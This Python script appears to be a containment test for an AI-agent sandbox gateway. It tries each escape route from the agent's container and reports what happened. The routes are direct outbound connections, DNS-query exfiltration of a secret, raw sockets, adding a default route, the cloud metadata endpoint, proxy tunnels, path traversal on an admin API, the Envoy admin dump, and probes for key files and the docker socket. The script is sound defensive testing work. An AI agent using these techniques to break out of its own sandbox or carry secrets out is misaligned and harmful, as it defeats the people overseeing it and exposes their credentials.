"""Tries every way around the gateway that a program in an agent's container has, and says what came of each.

Read from standard input by a bare Python; the targets come as JSON in the first argument. Nothing is asserted here: what
counts is what the world saw.
"""

from __future__ import annotations

import json
import os
import socket
import struct
import sys
from collections.abc import Callable

PLACES = json.loads(sys.argv[1])
PATIENCE = 3


def exchanged(address: tuple[str, int], sent: bytes) -> str:
    with socket.create_connection(address, timeout=PATIENCE) as peer:
        peer.sendall(sent)
        return f"answered: {peer.recv(300)!r}"


def tcp(way: str, host: str, port: int) -> str:
    return exchanged((host, port), f"GET /{way} HTTP/1.1\r\nhost: world\r\n\r\n".encode())


def udp(way: str, host: str, port: int) -> str:
    kind = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(kind, socket.SOCK_DGRAM) as peer:
        peer.settimeout(PATIENCE)
        peer.sendto(way.encode(), (host, port))
        return f"answered: {peer.recv(300)!r}"


def name(way: str) -> str:
    """Ask the container's own resolver: the question itself would carry a secret out."""
    return f"answered: {socket.getaddrinfo(f'{way}.secret.example', 80)[0][4]}"


def name_server(way: str, host: str) -> str:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in (way, "secret", "example"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(PATIENCE)
        peer.sendto(struct.pack(">6H", 1, 256, 1, 0, 0, 0) + labels + b"\0\0\1\0\1", (host, 53))
        return f"answered: {peer.recv(300)!r}"


def frame() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        return f"sent {raw.send(b'x' * 60)}"


def raw_socket(way: str, host: str) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        echo = b"\x08\0\xf7\xff\0\0\0\0" + way.encode()
        return f"sent {raw.sendto(echo, (host, 0))}"


def route(host: str) -> str:
    """Give ourselves a way out: SIOCADDRT, a default route by this host."""
    import fcntl

    zero = struct.pack("HH4s8x", socket.AF_INET, 0, bytes(4))
    by = struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(host))
    entry = struct.pack("L16s16s16sHhLLHLLHQ", 0, zero, by, zero, 3, 0, 0, 0, 0, 0, 0, 0, 0)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        fcntl.ioctl(any_socket, 0x890B, entry.ljust(120, b"\0"))
    return "a route was added"


def proxied(line: str, port: int = 10000, *headers: str) -> str:
    lines = (f"{line} HTTP/1.1", "host: gateway", *headers, "", "")
    return exchanged(("gateway", port), "\r\n".join(lines).encode())


def files(*places: str) -> str:
    there = [place for place in places if os.path.exists(place)]  # a folder that is closed to us holds nothing for us
    return f"there: {there}" if there else "none is there"


def tried(way: Callable[[], str]) -> str:
    try:
        return way()
    except OSError as fault:
        return f"{type(fault).__name__}: {fault.strerror or fault}"


WORLD, HOST, NAMES = PLACES["world"], PLACES["host"], PLACES["names"]
WAYS: dict[str, Callable[[], str]] = {
    "http": lambda: tcp("http", WORLD, 80),
    "other-port": lambda: tcp("other-port", WORLD, 2222),
    "datagram": lambda: udp("datagram", WORLD, 443),
    "ipv6": lambda: tcp("ipv6", PLACES["world6"], 80),
    "mapped": lambda: tcp("mapped", f"::ffff:{WORLD}", 80),
    "name": lambda: name("name"),
    "name-server": lambda: name_server("name-server", NAMES),
    "host": lambda: tcp("host", HOST, 2222),
    "metadata": lambda: tcp("metadata", "169.254.169.254", 80),
    "frame": frame,
    "raw": lambda: raw_socket("raw", WORLD),
    "route": lambda: route(HOST),
    **{
        f"direct-{name}": (lambda address=tuple(address): exchanged(address, b"GET /direct HTTP/1.0\r\n\r\n"))
        for name, address in PLACES["parts"].items()
    },
    "proxy-world": lambda: proxied(f"GET http://{WORLD}/proxy-world"),
    "proxy-control": lambda: proxied("GET http://control:7400/v1/policies"),
    "proxy-redis": lambda: proxied("POST http://redis:6379/"),
    "tunnel-world": lambda: proxied(f"CONNECT {WORLD}:80"),
    "tunnel-control": lambda: proxied("CONNECT control:7400"),
    "no-credential": lambda: proxied("GET http://api.stripe.example/v1/payments/p1"),
    "reverse-no-credential": lambda: proxied("GET /stripe-payments/v1/payments/p1", 10001),
    "door-admin": lambda: proxied("GET /v1/agents", 10002, f"authorization: Bearer {PLACES['admin_token']}"),
    "door-bundle": lambda: proxied("GET /bundles/aegis.tar.gz", 10002),
    "door-escape": lambda: proxied("GET /v1/token/../agents", 10002, f"authorization: Bearer {PLACES['admin_token']}"),
    "envoy-admin": lambda: exchanged(("gateway", 9901), b"GET /config_dump HTTP/1.0\r\n\r\n"),
    "files": lambda: files(
        "/run/aegis",
        "/run/secrets",
        "/var/run/docker.sock",
        "/var/lib/aegis/keys/issuer.pem",
        "/etc/aegis/control.yaml",
    ),
}

json.dump({name: tried(way) for name, way in WAYS.items() if name in PLACES["ways"]}, sys.stdout)
